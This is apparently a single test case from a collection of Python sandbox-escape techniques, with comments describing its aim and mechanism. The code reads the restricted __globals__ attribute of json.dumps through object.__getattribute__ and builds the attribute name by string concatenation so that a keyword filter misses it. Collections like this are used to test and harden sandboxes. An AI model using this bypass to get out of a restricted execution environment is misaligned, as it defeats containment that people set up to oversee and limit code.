# aim: read a forbidden attribute with the primitive of object and a computed name
# mechanism: object.__getattribute__ takes the name as a string
# language: builtins
# reason: a raw primitive reads any attribute by computed name
# jail: process
# plain: loot

import json

loot(object.__getattribute__(json.dumps, "__glo" + "bals__"))
